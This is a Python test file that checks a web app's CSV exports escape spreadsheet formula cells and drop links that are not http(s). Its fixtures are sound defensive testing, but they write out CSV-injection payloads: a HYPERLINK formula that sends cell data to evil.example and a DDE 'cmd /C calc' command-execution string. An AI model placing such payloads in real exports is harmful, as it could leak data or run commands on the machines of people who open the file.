"""Exports are safe to open in a spreadsheet: no cell starts a formula (triggers.csv and the
score export), and a link that is not http(s), even in an alert stored before the contract said
so, is never exported as a link."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import update
from typer.testing import CliRunner

from tests.web.conftest import DEMO_TARGETS, Web, clone_alert
from tests.web.test_api import DIGIA_ALERT
from triggerwatch.cli import app
from triggerwatch.core.db import CompanyScore, Database
from triggerwatch.core.targets import load_targets, read_target_file
from triggerwatch.web.auth import Role

HOSTILE = "22222222-3333-5444-8555-666666666666"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Avaa")'


def test_triggers_csv_neutralises_formula_cells_and_drops_non_http_links(sqlite_web: Web) -> None:
    web = sqlite_web
    clone_alert(
        web.db,
        DIGIA_ALERT,
        HOSTILE,
        company={"business_id": "0831312-4", "name": "+cmd|' /C calc'!A0", "role": "employer"},
        explanation={"what_happened": "@SUM(1+1)", "why_it_matters": "", "target_group_rule": "",
                     "next_step": "-2+3"},
        evidence=[{"url": FORMULA, "source": "rss", "title": "x"}],
    )  # fmt: skip
    crm = web.as_(Role.CRM)
    rows = {
        r["alert_id"]: r
        for r in csv.DictReader(io.StringIO(web.client.get("/api/v1/triggers.csv", headers=crm).text))
    }
    row = rows[HOSTILE]
    assert row["company"] == "'+cmd|' /C calc'!A0"
    assert row["what_happened"] == "'@SUM(1+1)" and row["next_step"] == "'-2+3"
    assert row["evidence_url"] == ""  # not an http(s) URL: never exported as a link
    for r in rows.values():
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values())
    pulled = {i["alert_id"]: i for i in web.client.get("/api/v1/triggers", headers=crm).json()["items"]}
    assert pulled[HOSTILE]["evidence"][0]["url"] is None
    assert pulled[HOSTILE]["evidence"][0]["url_text"] == FORMULA  # kept as text


def test_score_export_neutralises_formula_cells(sqlite_db: Database, monkeypatch: pytest.MonkeyPatch) -> None:
    load_targets(sqlite_db, read_target_file(DEMO_TARGETS))
    with sqlite_db.session() as s:
        s.execute(
            update(CompanyScore).where(CompanyScore.business_id == "0246246-0").values(rule_path=FORMULA)
        )
    monkeypatch.setenv("TRIGGERWATCH_DATABASE__URL", sqlite_db.url)
    result = CliRunner().invoke(app, ["score", "export"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    rows = {r["business_id"]: r for r in csv.DictReader(io.StringIO(result.stdout))}
    assert rows["0246246-0"]["rule_path"] == "'" + FORMULA
    assert float(rows["0246246-0"]["score"]) == 0.82
